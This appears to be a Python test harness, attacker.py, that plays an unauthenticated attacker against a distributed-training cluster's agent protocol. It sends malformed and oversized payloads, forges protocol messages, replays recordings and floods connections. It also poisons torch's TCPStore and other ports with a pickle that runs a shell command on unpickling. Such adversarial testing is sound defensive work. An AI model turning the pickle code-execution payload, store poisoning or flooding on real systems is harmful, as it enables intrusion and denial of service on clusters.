"""What somebody on the cluster's network can send who does not hold the run's secret. Runs as a process of its own, in a network namespace
of its own where there is one:

    python attacker.py garbage|join|replay|flood|store|sockets HOST PORT [FILE, SECONDS, PORTS FILE]       prints what came back, as JSON
"""
from __future__ import annotations

import contextlib
import json
import os
import selectors
import socket
import sys
import time
from collections.abc import Iterable

from mltrain.agent.hosts.link import Seal

PAYLOADS = {
    "noise": os.urandom(300) + b"\n",
    "a browser": b"GET / HTTP/1.1\r\nHost: x\r\n\r\n",
    "no end": b"m" * 200_000,
    "deep JSON": b"[" * 60_000 + b"\n",
    "a greeting, then deep JSON": b"mltrain-agent/1 " + b"0" * 32 + b"\n" + b"0" * 64 + b" " + b'{"a":' * 9_000 + b"\n",
    "another version": b"mltrain-agent/9 " + b"0" * 32 + b"\n",
    "half a greeting": b"mltrain-agent/1 0123",
}


def pickled_call(file: str) -> bytes:
    """Whoever unpickles it makes that file."""
    return f"cos\nsystem\n(S'touch {file}'\ntR.".encode()


def dial(host: str, port: int) -> socket.socket:
    return socket.create_connection((host, port), 10)


def answer(sock: socket.socket, lines: Iterable[bytes]) -> str:
    """All that comes back until the other side ends it; what is sent after the greeting."""
    found = b""
    with sock, contextlib.suppress(ConnectionError):
        sock.settimeout(20)
        for line in lines:
            sock.sendall(line)
        while data := sock.recv(4096):
            found += data
    return found.decode(errors="replace")


def garbage(host: str, port: int) -> dict[str, str]:
    return {name: answer(dial(host, port), [payload]) for name, payload in PAYLOADS.items()}


def join(host: str, port: int, run: str) -> dict[str, str]:
    """The protocol, to the letter, with a secret that is not the run's."""
    found = {}
    for kind, fields in {"join": {"id": "10.0.0.1:1", "name": "mallory", "workers": 8, "ready": True, "token": "x"}, "finish": {"code": 0},
                         "failed": {"ends": []}, "start": {"first": 0}}.items():
        seal = Seal(b"x" * 32, run, dialled=True)
        sock = dial(host, port)
        greeting = sock.recv(100)
        assert not [*seal.feed(greeting)]
        found[kind] = greeting.decode() + answer(sock, [seal.greeting, seal.line(kind, 1, fields)])
    return found


def replay(host: str, port: int, file: str) -> dict[str, str]:
    """What an agent of this run has said to its controller, once more."""
    with open(file, "rb") as recording:
        return {"replay": answer(dial(host, port), [recording.read()])}


def flood(host: str, port: int, seconds: float) -> dict[str, int]:
    """As many connections as one process can make; half of them say nothing, half say nonsense."""
    until, made, waiting, selector = time.monotonic() + seconds, 0, [], selectors.DefaultSelector()
    while time.monotonic() < until:
        sock = socket.socket()
        sock.setblocking(False)
        sock.connect_ex((host, port))
        selector.register(sock, selectors.EVENT_WRITE)
        waiting.append(sock)
        made += 1
        for key, _ in selector.select(0.001):
            if made % 2:
                assert isinstance(key.fileobj, socket.socket)
                with contextlib.suppress(OSError):
                    key.fileobj.send(b"nonsense\n")
        while len(waiting) > 300:
            old = waiting.pop(0)
            selector.unregister(old)
            old.close()
    return {"made": made}


def store(host: str, port: int, file: str) -> dict[str, list[str]]:
    """torch's store asks nobody who they are: read its keys, and put a pickle that makes a file in place of every value."""
    import datetime

    from torch.distributed import TCPStore
    client = TCPStore(host, port, is_master=False, wait_for_workers=False, timeout=datetime.timedelta(seconds=5))
    client.set("mallory", "was here")
    keys = [key.decode() if isinstance(key, bytes) else key for key in client.list_keys()]
    for key in {*keys, *(f"default_pg/0//cpu//0/{rank}" for rank in range(2))}:
        client.set(key, pickled_call(file).decode())
    return {"keys": keys}


def sockets(host: str, port: int, ports: str, file: str) -> dict[str, list[int]]:
    """Noise, and pickles, to ports that speak something else."""
    reached = []
    for number in map(int, ports.split(",")):
        for payload in (b"\0" * 64, b"\xff" * 64, os.urandom(5000), pickled_call(file) * 50):
            with contextlib.suppress(OSError), dial(host, number) as sock:
                sock.sendall(payload)
                reached.append(number)
    return {"reached": sorted(set(reached))}


if __name__ == "__main__":
    kind, host, port, *rest = sys.argv[1:]
    attack = {"garbage": garbage, "join": join, "replay": replay, "store": store, "sockets": sockets, "flood": flood}[kind]
    print(json.dumps(attack(host, int(port), *(map(float, rest) if kind == "flood" else rest))))
